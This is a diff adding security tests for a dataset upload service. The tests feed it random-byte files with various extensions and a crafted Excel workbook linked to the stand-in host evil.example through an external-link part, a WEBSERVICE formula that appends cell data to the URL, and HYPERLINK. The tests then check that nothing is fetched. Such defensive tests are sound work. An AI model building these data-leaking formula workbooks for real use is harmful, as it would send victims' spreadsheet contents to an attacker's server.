@@ -5,12 +5,13 @@
 // Worker answers afterwards.
 import { env } from "cloudflare:test";
 import { eq } from "drizzle-orm";
-import { afterAll, describe, expect, it } from "vitest";
+import { afterAll, describe, expect, it, vi } from "vitest";
 import * as XLSX from "xlsx";
 import { zipWith } from "../../engine/read/test-helpers";
 import { seededRandom } from "../../engine/random";
 import { createDb } from "~/server/db/client.server";
 import { datasets } from "~/server/db/schema";
+import { UPLOAD_ACCEPT } from "~/lib/dataset-formats";
 import { appFetch } from "./helpers";
 import { r2Keys, signedInUser, upload, type TestUser } from "./workspace-helpers";
 
@@ -26,6 +27,42 @@ function workbook(rows: unknown[][], bookType: XLSX.BookType, extra: (wb: XLSX.W
   XLSX.utils.book_append_sheet(wb, XLSX.utils.aoa_to_sheet(rows), "Data");
   extra(wb);
   return new Uint8Array(XLSX.write(wb, { type: "array", bookType }) as ArrayBuffer);
+}
+
+/**
+ * A workbook whose cells are linked to another workbook on a web server, the way Excel stores it: an
+ * externalLink part whose relationship targets the URL (TargetMode="External"), listed in workbook.xml, and
+ * cells with formulas through it — `[1]Prices!A1`, WEBSERVICE and HYPERLINK — beside their cached values.
+ */
+function workbookWithExternalLinks(url: string): Uint8Array {
+  const ws = XLSX.utils.aoa_to_sheet([["Region", "Units", "Link"], ["North", 3, "x"], ["South", 5, "y"]]);
+  ws.B2 = { t: "n", v: 3, f: "[1]Prices!A1" };
+  ws.B3 = { t: "n", v: 5, f: `WEBSERVICE("${url}?d="&A3)` };
+  ws.C2 = { t: "s", v: "x", f: `HYPERLINK("${url}","x")` };
+  const wb = XLSX.utils.book_new();
+  XLSX.utils.book_append_sheet(wb, ws, "Data");
+  const zip = XLSX.CFB.read(new Uint8Array(XLSX.write(wb, { type: "array", bookType: "xlsx" }) as ArrayBuffer), { type: "array" });
+  const text = (path: string) => new TextDecoder().decode(XLSX.CFB.find(zip, path)!.content as Uint8Array);
+  const put = (path: string, content: string) => XLSX.CFB.utils.cfb_add(zip, path, encode(content));
+  const relNs = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+  put(
+    "xl/externalLinks/externalLink1.xml",
+    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${relNs}"><externalBook r:id="rId1"><sheetNames><sheetName val="Prices"/></sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>3</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>`,
+  );
+  put(
+    "xl/externalLinks/_rels/externalLink1.xml.rels",
+    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${relNs}/externalLinkPath" Target="${url}" TargetMode="External"/></Relationships>`,
+  );
+  const rels = text("/xl/_rels/workbook.xml.rels").replace("</Relationships>", `<Relationship Id="rId99" Type="${relNs}/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>`);
+  XLSX.CFB.utils.cfb_add(zip, "xl/_rels/workbook.xml.rels", encode(rels));
+  const book = text("/xl/workbook.xml").replace("</sheets>", '</sheets><externalReferences><externalReference r:id="rId99"/></externalReferences>');
+  XLSX.CFB.utils.cfb_add(zip, "xl/workbook.xml", encode(book));
+  const types = text("/[Content_Types].xml").replace(
+    "</Types>",
+    '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
+  );
+  XLSX.CFB.utils.cfb_add(zip, "[Content_Types].xml", encode(types));
+  return new Uint8Array(XLSX.CFB.write(zip, { fileType: "zip", type: "array" }) as number[]);
 }
 
 async function datasetRows(userId: string) {
@@ -78,11 +115,22 @@ describe("hostile uploads", () => {
 
   it.each([
     ["noise.csv", /^"noise\.csv" contains binary data, not CSV text\./],
+    ["noise.tsv", /^"noise\.tsv" contains binary data, not CSV text\./],
+    ["noise.txt", /^"noise\.txt" contains binary data, not CSV text\./],
     ["noise.json", /^"noise\.json" contains binary data, not JSON text\./],
+    ["noise.ndjson", /^"noise\.ndjson" contains binary data, not JSON text\./],
+    ["noise.jsonl", /^"noise\.jsonl" contains binary data, not JSON text\./],
     ["noise.xlsx", /^"noise\.xlsx" is named like an Excel workbook but its contents are some other binary file\./],
     ["noise.xls", /^"noise\.xls" is named like an Excel 97–2003 workbook but its contents are some other binary file\./],
+    ["noise.xlsm", /reads CSV, Excel/],
+    ["noise.exe", /reads CSV, Excel/],
   ])("refuses random bytes named %s", async (name, message) => {
     await refused(name, randomBytes(name.length * 7919, 64 * 1024), { status: 415, message });
+  });
+
+  it("tries random bytes with every extension the file picker offers", () => {
+    // The table above must follow UPLOAD_ACCEPT: a new accepted extension needs its own hostile case.
+    expect(UPLOAD_ACCEPT.split(",").sort()).toEqual([".csv", ".json", ".jsonl", ".ndjson", ".tsv", ".txt", ".xls", ".xlsx"]);
   });
 
   it("refuses a truncated workbook", async () => {
@@ -102,6 +150,18 @@ describe("hostile uploads", () => {
     const { detail } = await accepted("macros.xlsx", bytes);
     expect(detail.rowCount).toBe(2);
     expect(detail.schema.columns.map((c) => c.name)).toEqual(["Region", "Units"]);
+  });
+
+  it("reads a workbook linked to another one on the web as its cached values: nothing is fetched, no formula runs", async () => {
+    const url = "https://evil.example/prices.xlsx";
+    const bytes = workbookWithExternalLinks(url);
+    expect(new TextDecoder().decode(bytes)).toContain(url);
+    const fetched = vi.spyOn(globalThis, "fetch");
+    const { detail } = await accepted("linked.xlsx", bytes);
+    expect(fetched.mock.calls.filter(([input]) => String(input instanceof Request ? input.url : input).includes("evil.example"))).toEqual([]);
+    fetched.mockRestore();
+    expect([detail.rowCount, detail.schema.columns.map((c) => c.name)]).toEqual([2, ["Region", "Units", "Link"]]);
+    expect(JSON.stringify(detail.profile.preview)).not.toContain("evil.example");
   });
 
   it("refuses a 10 MB single-line CSV of one header cell (no rows), and one of 5 million columns", async () => {
